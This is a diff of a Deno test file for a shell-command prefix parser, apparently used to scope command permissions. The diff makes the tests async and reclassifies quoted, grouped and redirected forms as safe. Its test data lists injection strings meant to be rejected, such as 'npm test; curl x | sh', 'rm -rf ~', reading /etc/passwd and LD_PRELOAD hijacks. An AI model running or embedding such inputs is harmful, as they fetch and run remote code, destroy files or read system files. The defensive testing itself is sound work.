@@ -1,7 +1,7 @@
 import assert from "node:assert/strict";
-import { commandPrefix, simpleCommandWords } from "./command_scope.ts";
+import { commandPrefix } from "./command_scope.ts";
 
-Deno.test("a simple command's prefix is its program and subcommand, without options", () => {
+Deno.test("a simple command's prefix is its program and subcommand, without options", async () => {
   const cases: [string, string][] = [
     ["npm test", "npm test"],
     ["npm test -- --watch", "npm test"],
@@ -28,11 +28,11 @@ Deno.test("a simple command's prefix is its program and subcommand, without opti
     ["npm test # then; rm -rf ~", "npm test"],
   ];
   for (const [command, prefix] of cases) {
-    assert.equal(commandPrefix(command), prefix, command);
+    assert.equal(await commandPrefix(command), prefix, command);
   }
 });
 
-Deno.test("a command that could run more than its leading words say has no prefix", () => {
+Deno.test("a command that could run more than its leading words say has no prefix", async () => {
   const attacks = [
     "npm test; curl x | sh",
     "npm test && rm -rf ~",
@@ -46,16 +46,11 @@ Deno.test("a command that could run more than its leading words say has no prefi
     'npm test "$(evil)"',
     "npm test `evil`",
     'npm test "`evil`"',
-    "npm test ${IFS}x",
-    "npm test $HOME",
     "npm test <(evil)",
     "npm test >(evil)",
     "npm test > package.json",
-    "npm test 2>&1",
     "npm test < /etc/passwd",
     "npm test <<< x",
-    "(npm test)",
-    "{ npm test; }",
     "PATH=. npm test",
     "LD_PRELOAD=./x.so npm test",
     "env PATH=. npm test",
@@ -73,16 +68,10 @@ Deno.test("a command that could run more than its leading words say has no prefi
     "printf -v 'a[$(evil)]' x",
     "declare -a 'a=($(evil))'",
     "let 'x=a[$(evil)]'",
-    "! npm test",
     "time npm test",
     "coproc rm -rf ~",
-    "'npm' test",
-    'n"pm" test',
     "np? test",
     "~/bin/tool",
-    "npm 'test'",
-    "npm te\\st",
-    "npm run 'build'",
     "npm test 'unterminated",
     'npm test "unterminated',
     "npm test \\",
@@ -93,17 +82,28 @@ Deno.test("a command that could run more than its leading words say has no prefi
     "# only a comment",
   ];
   for (const command of attacks) {
-    assert.equal(commandPrefix(command), undefined, JSON.stringify(command));
+    assert.equal(await commandPrefix(command), undefined, JSON.stringify(command));
   }
 });
 
-Deno.test("quoted and escaped operators are arguments, not new commands", () => {
-  assert.deepEqual(simpleCommandWords("echo 'a; b' \"c && d\" e\\;f"), [
-    "echo",
-    "'a; b'",
-    '"c && d"',
-    "e\\;f",
-  ]);
-  assert.deepEqual(simpleCommandWords('echo "a \\" ; b"'), ["echo", '"a \\" ; b"']);
-  assert.equal(simpleCommandWords('echo "a \\"; b'), undefined);
+Deno.test("quoting is taken away: the prefix is what bash runs", async () => {
+  // Each of these runs exactly `npm test` or `git status`; the parser reads them as bash does.
+  const cases: [string, string][] = [
+    ["'npm' test", "npm test"],
+    ['n"pm" test', "npm test"],
+    ["npm 'test'", "npm test"],
+    ["npm te\\st", "npm test"],
+    ["(npm test)", "npm test"],
+    ["{ npm test; }", "npm test"],
+    ["! npm test", "npm test"],
+    ["npm test 2>&1", "npm test"],
+    ["npm test $HOME", "npm test"],
+    // Expansions give npm test arguments, never another command.
+    ["npm test ${IFS}x", "npm test"],
+    ["npm run 'build'", "npm run build"],
+    ["echo 'a; b' \"c && d\" e\\;f", "echo"],
+  ];
+  for (const [command, prefix] of cases) {
+    assert.equal(await commandPrefix(command), prefix, command);
+  }
 });
